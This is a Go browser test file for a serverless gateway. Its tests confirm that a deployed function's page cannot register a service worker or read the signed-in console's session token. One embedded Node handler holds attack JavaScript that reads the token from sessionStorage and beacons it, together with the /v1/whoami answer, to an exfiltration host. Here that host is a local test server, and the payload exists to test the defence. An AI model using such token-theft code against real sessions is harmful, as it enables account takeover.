package main

import (
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"sless.dev/sless/gateway/api"
	"sless.dev/sless/test/browser"
)

// takeoverHandler serves the takeover page and its worker through response control.
var takeoverHandler = `PAGE = r'''` + browser.TakeoverPage + `'''
WORKER = r'''` + browser.TakeoverWorker + `'''

def handle(event, request):
    if request["path"].endswith("/sw.js"):
        return {"statusCode": 200, "headers": {"Content-Type": "text/javascript", "Service-Worker-Allowed": "/"}, "body": WORKER}
    return {"statusCode": 200, "headers": {"Content-Type": "text/html"}, "body": PAGE}
`

// TestServiceWorkerTakeoverOnDevInChromium is attack 1 of issue 14: on a
// real `sless dev`, a function's page opened in the tab where the console is signed in
// reads no token and registers no service worker over the gateway's origin, and the console
// afterwards is the real one with working /v1 calls.
func TestServiceWorkerTakeoverOnDevInChromium(t *testing.T) {
	browser.Need(t)
	d := startDevSession(t)
	d.deployPython(t, "evil", takeoverHandler, 10)
	p := browser.Open(t, 3*time.Minute)
	signedIn := func(what string) {
		t.Helper()
		p.Do(what, chromedp.Navigate(d.endpoint+"/console/"), chromedp.WaitVisible(chromedp.CSS(`tr[data-function="evil"]`)))
		if got := p.Eval("document.title"); got != "sless console" {
			t.Fatalf("%s: the console's title is %q", what, got)
		}
		if n := p.Eval(`navigator.serviceWorker.getRegistrations().then(r => r.length)`); n != "0" {
			t.Fatalf("%s: %s service workers registered on the gateway's origin", what, n)
		}
		if s := p.Eval(`fetch("/v1/whoami", {headers: {Authorization: "Bearer " + sessionStorage.getItem("sless.token")}}).then(r => r.text())`); !strings.Contains(s, d.ns) {
			t.Fatalf("%s: /v1/whoami from the console answered %q", what, s)
		}
	}

	p.Do("sign in from the banner's URL", chromedp.Navigate(d.endpoint+"/console/#token="+d.token),
		chromedp.WaitVisible(chromedp.CSS(`tr[data-function="evil"]`)))
	p.Do("open the function in the same tab", chromedp.Navigate(d.endpoint+"/fn/"+d.ns+"/evil/"))
	p.Wait("the function's page to report", `document.title !== "loading"`)
	got := p.Eval("document.title")
	if strings.Contains(got, d.token) || strings.Contains(got, "sw:registered") || !strings.Contains(got, "storage:SecurityError") {
		t.Fatalf("the function's page on the gateway's origin: %q; want no token and no service worker", got)
	}
	p.Screenshot("takeover-refused")
	signedIn("the console after the function's page")
}

// earlyHintsHandler is a Node function that sends 103 Early Hints before every answer
// (through the wrapper's own response) and serves a page that reads the console's token,
// calls /v1/whoami with it and sends both to EXFIL.
const earlyHintsHandler = `const http = require('http');
const writeHead = http.ServerResponse.prototype.writeHead;
http.ServerResponse.prototype.writeHead = function (...args) {
  if (!this.hinted) { this.hinted = true; this.writeEarlyHints({ link: '</style.css>; rel=preload; as=style' }); }
  return writeHead.apply(this, args);
};
const PAGE = ` + "`" + `<!doctype html><title>loading</title><script>
try {
  const token = sessionStorage.getItem("sless.token");
  fetch("/v1/whoami", {headers: {Authorization: "Bearer " + token}}).then(r => r.text()).then(who => {
    new Image().src = "EXFIL/?token=" + encodeURIComponent(token) + "&who=" + encodeURIComponent(who);
    document.title = "token:" + token + " whoami:" + who;
  }, (e) => { document.title = "token:" + token + " whoami:" + e.name; });
} catch (e) { document.title = "storage:" + e.name; }
</script>` + "`" + `;
exports.handle = async () => ({ statusCode: 200, headers: { 'Content-Type': 'text/html' }, body: PAGE.replace('EXFIL', process.env.EXFIL) });
`

// TestEarlyHintsTokenTheftOnDevInChromium is attack 1 of issue 24 where it was found: a
// Node function that sends 103 Early Hints before its page, opened in the tab where the
// console is signed in, reads no token and sends nothing away: its final answer still
// carries the sandbox.
func TestEarlyHintsTokenTheftOnDevInChromium(t *testing.T) {
	var stolen atomic.Int32
	exfil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Query().Get("token") != "" {
			stolen.Add(1)
		}
	}))
	t.Cleanup(exfil.Close)
	d := startDevSession(t)
	d.upload(t, "hints", "nodejs20", map[string]string{"handler.js": earlyHintsHandler},
		api.FunctionFields{EnvVars: &map[string]string{"EXFIL": exfil.URL}}, "Ready", func(s api.FunctionStatus) bool { return s.Ready })

	p := browser.Open(t, 3*time.Minute)
	p.Do("sign in from the banner's URL", chromedp.Navigate(d.endpoint+"/console/#token="+d.token),
		chromedp.WaitVisible(chromedp.CSS(`tr[data-function="hints"]`)))
	p.Do("open the function in the same tab", chromedp.Navigate(d.endpoint+"/fn/"+d.ns+"/hints/"))
	p.Wait("the function's page to report", `document.title !== "loading"`)
	got := p.Eval("document.title")
	if strings.Contains(got, d.token) || !strings.Contains(got, "storage:SecurityError") {
		t.Fatalf("the function's page after 103 Early Hints on the gateway's origin: %q; want no token", got)
	}
	if n := stolen.Load(); n != 0 {
		t.Fatalf("the page sent the token away %d times", n)
	}
	p.Screenshot("early-hints-sandboxed")
}
